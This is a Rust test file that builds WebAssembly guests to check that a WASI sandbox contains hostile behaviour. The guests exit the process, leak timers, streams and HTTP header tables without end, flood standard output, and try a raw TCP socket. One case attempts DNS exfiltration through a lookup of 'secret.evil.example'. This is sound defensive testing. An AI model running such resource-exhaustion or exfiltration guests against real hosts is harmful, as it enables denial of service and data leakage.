//! Guests that look for the machine behind WASI, where there is nothing.

use sortie_guests::answers::tell;
use sortie_guests::{connector_wat, wasi};

use super::NO_REPLY;
use crate::case::{Act, Case, End};

const NARROW: &str = "(call $tell (i32.load8_u (i32.const 4096)) (i32.load8_u (i32.const 4100))
    (i32.const 0) (i32.const 0))";

pub(super) fn cases() -> Vec<Case> {
    let mut cases = ends();
    cases.extend(leaks());
    cases.extend(sockets());
    cases
}

fn exit(status: u32) -> Vec<u8> {
    let import = r#"(import "wasi:cli/exit@0.2.0" "exit" (func $exit (param i32)))"#;
    let body = format!("(call $exit (i32.const {status})) (i32.const 1024)");
    wasi::connector(&["wasi:cli/exit@0.2.0"], &connector_wat(import, "", &body))
}

fn ends() -> Vec<Case> {
    let random = r#"
      (import "wasi:random/random@0.2.0" "get-random-bytes" (func $random (param i64 i32)))
    "#;
    let poll = r#"(import "wasi:io/poll@0.2.0" "poll" (func $poll (param i32 i32 i32)))"#;
    let environment = r#"
      (import "wasi:cli/environment@0.2.0" "get-environment" (func $environment (param i32)))
    "#;
    vec![
        Case::receive(
            "exit-with-success",
            "an end of the whole process, with success",
            "Trap",
            exit(0),
        ),
        Case::receive(
            "exit-with-failure",
            "an end of the whole process, with failure",
            "Trap",
            exit(1),
        ),
        Case::receive(
            "randomness-by-the-gigabyte",
            "all the random bytes there are",
            "Nonsense",
            wasi::connector(
                &["wasi:random/random@0.2.0"],
                &connector_wat(
                    random,
                    "",
                    "(call $random (i64.const -1) (i32.const 4096)) (i32.const 1024)",
                ),
            ),
        ),
        Case::receive(
            "wait-for-nothing",
            "a wait for none of no events, which never comes",
            "Nonsense",
            wasi::connector(
                &["wasi:io/poll@0.2.0"],
                &connector_wat(
                    poll,
                    "",
                    "(call $poll (i32.const 0) (i32.const 0) (i32.const 4096)) (i32.const 1024)",
                ),
            ),
        ),
        Case::new(
            "environment",
            "the host's environment, which is empty for it",
            Act::Receive,
            End::Fine,
            wasi::connector(
                &["wasi:cli/environment@0.2.0"],
                &connector_wat(
                    environment,
                    "",
                    &format!(
                        "(call $environment (i32.const 4096))
                         (if (i32.load (i32.const 4100)) (then unreachable)) {NO_REPLY}"
                    ),
                ),
            ),
        ),
    ]
}

/// Handles and lines without end.
fn leaks() -> Vec<Case> {
    let after = r#"(import "wasi:clocks/monotonic-clock@0.2.0" "subscribe-duration"
        (func $get (param i64) (result i32)))"#;
    let stdout = r#"(import "wasi:cli/stdout@0.2.0" "get-stdout" (func $get (result i32)))"#;
    let write = r#"(import "wasi:io/streams@0.2.0"
        "[method]output-stream.blocking-write-and-flush" (func $write (param i32 i32 i32 i32)))"#;
    let fields = r#"(import "wasi:http/types@0.2.0" "[constructor]fields"
        (func $get (result i32)))"#;
    let forever = |imports: &str, call: &str| {
        connector_wat(
            imports,
            "",
            &format!("(loop $l {call} (br $l)) unreachable"),
        )
    };
    let clock = ["wasi:clocks/monotonic-clock@0.2.0", "wasi:io/poll@0.2.0"];
    let streams = ["wasi:cli/stdout@0.2.0", "wasi:io/streams@0.2.0"];
    let leak =
        |name, tries, wasm| Case::receive(name, tries, "ResultLimit", wasm).with_cpu_ms(5_000);
    vec![
        leak(
            "leak-of-timers",
            "timers without end",
            wasi::connector(&clock, &forever(after, "(drop (call $get (i64.const -1)))")),
        ),
        leak(
            "leak-of-streams",
            "streams without end",
            wasi::connector(&streams, &forever(stdout, "(drop (call $get))")),
        ),
        leak(
            "leak-of-headers",
            "header tables of `wasi:http` without end",
            wasi::connector(
                &["wasi:http/types@0.2.0"],
                &forever(fields, "(drop (call $get))"),
            ),
        ),
        Case::receive(
            "flood-of-output",
            "lines on the standard output without end",
            "LogLimit",
            wasi::connector(
                &streams,
                &connector_wat(
                    &format!("{stdout}{write}"),
                    r#"(data (i32.const 2048) "line\n")"#,
                    "(local $out i32) (local.set $out (call $get))
                     (loop $l
                       (call $write (local.get $out) (i32.const 2048) (i32.const 5)
                         (i32.const 4096))
                       (br $l))
                     unreachable",
                ),
            ),
        )
        .with_cpu_ms(5_000),
        Case::new(
            "one-endless-line-of-output",
            "a line of 4 MB without an end, of which 4 KiB are kept",
            Act::Receive,
            End::Fine,
            wasi::connector(
                &streams,
                &connector_wat(
                    &format!("{stdout}{write}"),
                    "",
                    &format!(
                        "(local $out i32) (local $n i32) (local.set $out (call $get))
                         (loop $l
                           (call $write (local.get $out) (i32.const 131072) (i32.const 4096)
                             (i32.const 4096))
                           (local.set $n (i32.add (local.get $n) (i32.const 1)))
                           (br_if $l (i32.lt_u (local.get $n) (i32.const 1000))))
                         {NO_REPLY}"
                    ),
                ),
            ),
        )
        .with_cpu_ms(5_000),
    ]
}

fn sockets() -> Vec<Case> {
    let lookup = r#"
      (import "wasi:sockets/instance-network@0.2.0" "instance-network" (func $network (result i32)))
      (import "wasi:sockets/ip-name-lookup@0.2.0" "resolve-addresses"
        (func $resolve (param i32 i32 i32 i32)))
    "#;
    let tcp = r#"
      (import "wasi:sockets/tcp-create-socket@0.2.0" "create-tcp-socket"
        (func $tcp (param i32 i32)))
    "#;
    let names = tell(&wasi::SOCKET_ERRORS);
    let told = |name: &'static str, tries: &'static str, ends, wasm| {
        Case::new(name, tries, Act::Receive, End::told(ends), wasm)
    };
    vec![
        told(
            "secret-in-a-name",
            "a look-up of `secret.evil.example`, which would tell its name server",
            "permanent-resolver-failure",
            wasi::connector(
                &[
                    "wasi:sockets/instance-network@0.2.0",
                    "wasi:sockets/ip-name-lookup@0.2.0",
                ],
                &connector_wat(
                    lookup,
                    &format!(r#"{names} (data (i32.const 2048) "secret.evil.example")"#),
                    &format!(
                        "(call $resolve (call $network) (i32.const 2048) (i32.const 19)
                           (i32.const 4096)) {NARROW}"
                    ),
                ),
            ),
        ),
        told(
            "raw-socket",
            "a TCP socket",
            "access-denied",
            wasi::connector(
                &["wasi:sockets/tcp-create-socket@0.2.0"],
                &connector_wat(
                    tcp,
                    &names,
                    &format!("(call $tcp (i32.const 0) (i32.const 4096)) {NARROW}"),
                ),
            ),
        ),
    ]
}
